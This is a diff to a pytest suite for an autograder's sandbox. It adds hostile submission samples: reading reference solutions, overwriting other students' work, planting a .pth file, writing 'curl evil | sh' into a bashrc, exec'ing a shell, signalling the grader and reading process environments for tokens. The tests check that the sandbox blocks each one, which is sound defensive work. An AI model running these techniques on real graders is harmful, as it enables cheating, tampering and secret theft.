@@ -5,8 +5,10 @@ attack. The attack must not raise the score, must not leak into other
 exercises, and must leave no process behind.
 """
 
+import os
 import time
 from dataclasses import dataclass, field
+from pathlib import Path
 
 import psutil
 import pytest
@@ -149,8 +151,8 @@ def cross_entropy_error(y, t):
     Case("memory that grows until it runs out",
          {**sse_prefix("hoard = []\nwhile True:\n    hoard.append(np.ones(10 ** 6))")}, {**sse_prefix("raise RuntimeError")},
          untouched=("gradient", "gradient_descent"), statuses={"memory"}),
-    Case("flooding the output",
-         {**sse_prefix("while True:\n    print('x' * 100000)")}, {**sse_prefix("raise RuntimeError")},
+    Case("flooding the output descriptor",
+         {**sse_prefix("import os\nwhile True:\n    os.write(1, b'x' * 100000)")}, {**sse_prefix("raise RuntimeError")},
          untouched=("gradient", "gradient_descent"), statuses={"error"}),
     Case("starting a process that outlives the grading",
          {**sse_prefix("import subprocess\nsubprocess.Popen(['sleep', '3171'], start_new_session=True)")},
@@ -202,7 +204,7 @@ def test_attack_earns_nothing_beyond_its_honest_twin(hostile_grader, tmp_path, c
 def test_messages_name_the_limit(hostile_grader, tmp_path):
     bomb = hostile_grader.grade(build(tmp_path / "bomb", sse_prefix("big = np.ones(10 ** 11)")))
     hang = hostile_grader.grade(build(tmp_path / "hang", sse_prefix("while True:\n    pass")))
-    flood = hostile_grader.grade(build(tmp_path / "flood", sse_prefix("while True:\n    print('x' * 100000)")))
+    flood = hostile_grader.grade(build(tmp_path / "flood", sse_prefix("import os\nwhile True:\n    os.write(1, b'x' * 100000)")))
     assert "메모리 초과" in failing(bomb)["sse_batch_mean"]["message"]
     assert "256 MB" in failing(bomb)["sse_batch_mean"]["message"]
     assert "시간 초과" in failing(hang)["sse_textbook"]["message"]
@@ -218,23 +220,40 @@ def test_second_timeout_of_a_function_skips_its_remaining_calls(hostile_grader, 
     assert elapsed < 3 * LIMITS.call_timeout + 5
 
 
-def test_processes_left_behind_are_killed_even_in_a_new_session(tmp_path):
-    """With the audit-hook fence off, student code can start processes; cleanup still gets them."""
-    spawn = """
-import os
-if os.fork() == 0:
+def named(marker: str) -> list:
+    """Processes whose name (comm) is ``marker`` (set with prctl by the attacks below)."""
+    return [p for p in psutil.process_iter(["name"]) if p.info["name"] == marker]
+
+
+NAME_SELF = "import ctypes\nctypes.CDLL(None).prctl(15, {marker!r}.encode(), 0, 0, 0)\n"
+
+
+@pytest.mark.parametrize("disabled", [(), ("landlock", "namespaces")], ids=["kernel", "no-kernel"])
+def test_processes_left_behind_are_killed_even_in_a_new_session(tmp_path, disabled):
+    """With the audit-hook fence off, student code can fork; every process it leaves dies with the submission."""
+    marker = f"left{len(disabled)}"
+    spawn = f"""
+import os, time
+pid = os.fork()
+if pid == 0:
     os.setsid()
     if os.fork() == 0:
-        os.execvp('sleep', ['sleep', '3172'])
+        {NAME_SELF.format(marker=marker).strip().replace(chr(10), chr(10) + '        ')}
+        time.sleep(3172)
     os._exit(0)
+os.waitpid(pid, 0)
 for _ in range(3):
     if os.fork() == 0:
-        os.execvp('sleep', ['sleep', '3172'])
+        {NAME_SELF.format(marker=marker).strip().replace(chr(10), chr(10) + '        ')}
+        time.sleep(3172)
 """
-    with Grader(limits=Limits(call_timeout=1.0, guard=False)) as grader:
+    with Grader(limits=Limits(call_timeout=1.0, guard=False, disabled=disabled)) as grader:
         result = grader.grade(build(tmp_path / "s", sse_prefix(spawn)))
-        assert result["score"] == 100  # the work itself is the reference's
-        assert not leftover("3172")
+        assert scores(result)["gradient"] == 40 and scores(result)["gradient_descent"] == 24
+        deadline = time.monotonic() + 5
+        while named(marker) and time.monotonic() < deadline:
+            time.sleep(0.1)
+        assert not named(marker)
 
 
 def test_a_killed_zygote_costs_only_the_exercise_that_killed_it(tmp_path):
@@ -284,3 +303,242 @@ def test_whole_submission_timeout_stops_a_slow_submission(tmp_path):
     messages = [t["message"] for t in failing(result).values() if t["status"] == "timeout"]
     assert any("제출물 전체의 채점 시간 제한(2초)" in m for m in messages)
     assert result["status"] == "graded"
+
+
+# --- confinement: each class of attack beside its honest twin ------------------------
+#
+# Three ways of running every attack:
+#   kernel        Landlock + namespaces + rlimits, and the audit hook;
+#   kernel-only   the same without the audit hook: the kernel layers alone must hold;
+#   guard-only    Landlock and namespaces disabled (a machine without them): the audit
+#                 hook must still hold, except for the attacks marked ``kernel=True``,
+#                 for which the test checks instead that the weaker level is reported.
+
+MODES = {
+    "kernel": {"guard": True, "disabled": ()},
+    "kernel-only": {"guard": False, "disabled": ()},
+    "guard-only": {"guard": True, "disabled": ("landlock", "namespaces")},
+}
+SECRET = "ghs_do_not_leak_0123456789"
+
+
+@dataclass
+class Attack:
+    name: str
+    code: str  # run at the start of sum_squared_error; {placeholders} filled in by the test
+    kernel: bool = False  # only the kernel layers stop it (an audit hook cannot see it)
+    twin: str = "raise PermissionError('denied')"  # the honest twin: the same function failing plainly
+
+
+ATTACKS = [
+    Attack("switching the audit hook off, then reading the reference", """
+import sys, os
+guard = sys.modules.get("guard")
+for name in list(vars(guard)) if guard else []:
+    if name.isupper():
+        setattr(guard, name, frozenset())
+os.getcwd = lambda: "/"
+os.stat = lambda *a, **k: None
+os.path.realpath = lambda p, **k: "/nowhere"
+return float(len(open({solution!r}).read()))
+"""),
+    Attack("a directory descriptor and a relative path (dir_fd)", """
+import os
+root = os.open("/", os.O_RDONLY)
+fd = os.open({solution_from_root!r}, os.O_RDONLY, dir_fd=root)
+return float(len(os.read(fd, 10000)))
+"""),
+    Attack("a hard link to the reference inside the work folder", """
+import os
+os.link({solution!r}, "stolen.py")
+return float(len(open("stolen.py").read()))
+"""),
+    Attack("overwriting another student's submission", """
+open({victim!r}, "w").write("def sum_squared_error(y, t):\\n    return 0.0\\n")
+"""),
+    Attack("changing the checkout's exercises/", """
+open({checkout_exercise!r}, "a").write("\\n# changed\\n")
+"""),
+    Attack("rewriting the gradebook and the saved state", """
+open({gradebook!r}, "w").write("[]")
+open({state!r}, "w").write("{{}}")
+"""),
+    Attack("chmod, utime, truncate, rename and remove on another submission", """
+import os
+for action in (lambda: os.chmod({victim!r}, 0), lambda: os.utime({victim!r}, (0, 0)),
+               lambda: os.truncate({victim!r}, 0), lambda: os.rename({victim!r}, {victim!r} + ".x"),
+               lambda: os.remove({victim!r})):
+    try:
+        action()
+    except OSError:
+        pass
+raise PermissionError("denied")
+"""),
+    Attack("a .pth file in the grader's site-packages", """
+open({site!r} + "/zz_autograder_persist.pth", "w").write("import os\\n")
+"""),
+    Attack("writing into the grader's home folder", """
+open({home!r} + "/.autograder-test-bashrc", "a").write("curl evil | sh\\n")
+"""),
+    Attack("filling the disk", """
+for i in range(5000):
+    open("f%d" % i, "w").write("x" * 200000)
+"""),
+    Attack("starting a program", """
+import os
+os.execv("/bin/sh", ["sh", "-c", "echo owned > {marker_file}"])
+"""),
+    Attack("a signal to the grader by pid", """
+import os, signal
+os.kill({main_pid}, signal.SIGSTOP)
+"""),
+    Attack("a signal to the zygote and the grader through a pidfd", """
+import os, signal
+for pid in ({zygote_pid}, {main_pid}):
+    try:
+        signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGSTOP)
+    except OSError:
+        pass
+raise PermissionError("denied")
+""", kernel=True),
+    Attack("reading the grader's environment", """
+import os
+text = repr(dict(os.environ))
+for pid in ({main_pid}, {zygote_pid}):
+    try:
+        text += open("/proc/%d/environ" % pid).read()
+    except OSError:
+        pass
+raise ValueError(text)
+""", twin="raise ValueError('x')"),
+    Attack("sending data to a local listener", """
+import socket
+for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
+    s = socket.socket(socket.AF_INET, kind)
+    s.settimeout(1)
+    try:
+        s.connect(("127.0.0.1", {port}))
+        s.send(b"hidden suite")
+        s.sendto(b"hidden suite", ("127.0.0.1", {port}))
+    except OSError:
+        pass
+raise PermissionError("denied")
+""", kernel=True),
+]
+
+
+@pytest.fixture
+def scene(tmp_path, monkeypatch):
+    """Files an attack must not touch, a listener it must not reach, and the values it is told."""
+    import socket as sockets
+
+    monkeypatch.setenv("GITHUB_TOKEN", SECRET)
+    victim = make_submission(tmp_path / "victim") / "exercises" / "losses.py"
+    gradebook = tmp_path / "grading-output" / "grades.json"
+    state = tmp_path / "grading-output" / "state" / "victim.json"
+    for path in (gradebook, state):
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text('{"score": 100}', encoding="utf-8")
+    tcp, udp = sockets.socket(), sockets.socket(sockets.AF_INET, sockets.SOCK_DGRAM)
+    tcp.bind(("127.0.0.1", 0))
+    tcp.listen(5)
+    tcp.setblocking(False)
+    udp.bind(("127.0.0.1", tcp.getsockname()[1]))
+    udp.setblocking(False)
+    import numpy
+    values = {
+        "solution": str(ROOT / "solutions" / "losses.py"),
+        "solution_from_root": str(ROOT / "solutions" / "losses.py").lstrip("/"),
+        "victim": str(victim), "checkout_exercise": str(ROOT / "exercises" / "losses.py"),
+        "gradebook": str(gradebook), "state": str(state),
+        "site": str(Path(numpy.__file__).resolve().parents[1]), "home": str(Path.home()),
+        "marker_file": str(tmp_path / "owned"), "main_pid": os.getpid(), "port": tcp.getsockname()[1],
+    }
+    watched = [victim, gradebook, state, ROOT / "exercises" / "losses.py"]
+    before = {p: (p.read_bytes(), p.stat().st_mode, p.stat().st_mtime_ns) for p in watched}
+    yield values
+    received = []
+    for sock in (tcp, udp):
+        try:
+            received.append(sock.accept()[0].recv(100) if sock is tcp else sock.recv(100))
+        except (BlockingIOError, OSError):
+            pass
+    tcp.close()
+    udp.close()
+    assert received == [], f"the listener received {received}"
+    for path, (data, mode, mtime) in before.items():
+        assert path.is_file(), f"{path} was removed"
+        assert (path.read_bytes(), path.stat().st_mode, path.stat().st_mtime_ns) == (data, mode, mtime), path
+    assert not (Path(values["site"]) / "zz_autograder_persist.pth").exists()
+    assert not (Path.home() / ".autograder-test-bashrc").exists()
+    assert not Path(values["marker_file"]).exists()
+
+
+@pytest.fixture(scope="module", params=list(MODES))
+def mode_grader(request):
+    mode = MODES[request.param]
+    with Grader(limits=Limits(call_timeout=1.0, submission_timeout=60.0, memory_mb=256, output_kb=64,
+                              **mode)) as grader:
+        yield request.param, grader
+
+
+@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: a.name)
+def test_confinement_attack_earns_nothing_and_changes_nothing(mode_grader, scene, tmp_path, attack):
+    mode, grader = mode_grader
+    if attack.kernel and mode == "guard-only":
+        # A machine without Landlock and namespaces cannot stop this one: the grader must say so.
+        assert "landlock" not in grader.isolation and "pidns" not in grader.isolation
+        return
+    code = attack.code.format(zygote_pid=grader._zygote_alive().process.pid, **scene)
+    attacked = grader.grade(build(tmp_path / "hostile", sse_prefix(code)))
+    honest = grader.grade(build(tmp_path / "twin", sse_prefix(attack.twin)))
+    assert attacked["status"] == "graded", attacked["internal_errors"]
+    assert attacked["score"] <= honest["score"] < 100, failing(attacked)
+    assert scores(attacked)["gradient"] == 40 and scores(attacked)["gradient_descent"] == 24
+    for test in failing(attacked).values():
+        assert SECRET not in test["message"] and "Traceback" not in test["message"]
+    for proc in (psutil.Process(), psutil.Process(grader._zygote_alive().process.pid)):
+        assert proc.status() != psutil.STATUS_STOPPED
+
+
+def test_the_grader_says_how_well_it_is_confined():
+    with Grader(limits=Limits()) as strong, Grader(limits=Limits(disabled=("landlock", "namespaces"))) as weak:
+        assert strong.isolation.startswith("landlock-abi") and "pidns" in strong.isolation
+        assert "landlock" not in weak.isolation and "pidns" not in weak.isolation and "rlimits" in weak.isolation
+
+
+def test_forged_replies_cannot_claim_x_was_restored(hostile_grader, tmp_path):
+    """Code in the child wraps the reply machinery to report x as restored; the grader reads x itself."""
+    forger = """
+import sys
+_child = sys.modules.get("child")
+if _child is not None:
+    _call = _child._call
+    def _forged(module, message, request):
+        reply = _call(module, message, request)
+        reply["args_after"] = message.get("args")
+        reply["probes"] = [{"name": "function_2", "calls": 9, "foreign_calls": 0}]
+        return reply
+    _child._call = _forged
+"""
+    no_restore = [("        x[idx] = original  # 원래 값으로 되돌립니다.\n", "")]
+    forged = hostile_grader.grade(build(tmp_path / "forged", {"replace": {"gradient.py": no_restore},
+                                                              "prepend": {"gradient.py": forger}}))
+    honest = hostile_grader.grade(make_submission(tmp_path / "honest", replace={"gradient.py": no_restore}))
+    assert "numerical_gradient_restores_x" in failing(forged)
+    assert forged["score"] <= honest["score"]
+
+
+@pytest.mark.parametrize("mode", ["kernel", "guard-only"])
+def test_a_hostile_submission_between_correct_ones_costs_them_nothing(tmp_path, scene, mode):
+    first, last = make_submission(tmp_path / "first"), make_submission(tmp_path / "last")
+    attacks = [a for a in ATTACKS if not (a.kernel and mode == "guard-only")]
+    scene = {**scene, "victim": str(last / "exercises" / "losses.py")}
+    folders = [first] + [build(tmp_path / f"hostile{i}", sse_prefix(a.code.format(zygote_pid=0, **scene)))
+                         for i, a in enumerate(attacks)] + [last]
+    before = (last / "exercises" / "losses.py").read_bytes()
+    results = Batch(folders, limits=Limits(call_timeout=1.0, **MODES[mode]), workers=2).run()
+    assert results[0]["score"] == 100 and results[-1]["score"] == 100
+    assert all(r["status"] == "graded" for r in results)
+    assert all(r["score"] < 100 for r in results[1:-1])
+    assert (last / "exercises" / "losses.py").read_bytes() == before
